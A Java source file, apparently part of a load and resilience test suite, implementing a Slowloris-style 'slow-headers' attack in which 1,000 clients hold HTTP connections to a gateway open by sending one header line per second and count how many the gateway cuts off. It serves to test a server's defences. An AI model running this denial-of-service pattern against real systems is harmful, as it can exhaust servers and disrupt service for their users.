package dev.opportune.perf.attack.connections;

import dev.opportune.perf.attack.Attack;
import dev.opportune.perf.attack.Crowd;
import dev.opportune.perf.attack.Target;
import java.io.IOException;
import java.util.concurrent.atomic.LongAdder;

/// Requests whose heads do not end.
public final class SlowHeaders implements Attack {

    private static final int CLIENTS = 1_000;
    private static final long PIECE_MILLIS = 1_000;

    @Override
    public String name() {
        return "slow-headers";
    }

    @Override
    public String what() {
        return "1,000 clients, a header every second, reconnecting; no key";
    }

    @Override
    public void run(Target target) throws InterruptedException {
        var ended = new LongAdder();
        int _ = Crowd.run(target, CLIENTS, _ -> {
            while (!target.isOver()) {
                try (var http = target.http1()) {
                    http.say("GET /v1/events HTTP/1.1\r\nHost: gateway\r\n");
                    while (!target.isOver()) {
                        http.say("X-More: y\r\n");
                        Thread.sleep(PIECE_MILLIS);
                    }
                } catch (IOException _) {
                    ended.increment();
                    Thread.sleep(PIECE_MILLIS);
                }
            }
        });
        target.tell(ended.sum() + " connections ended by the gateway");
    }
}
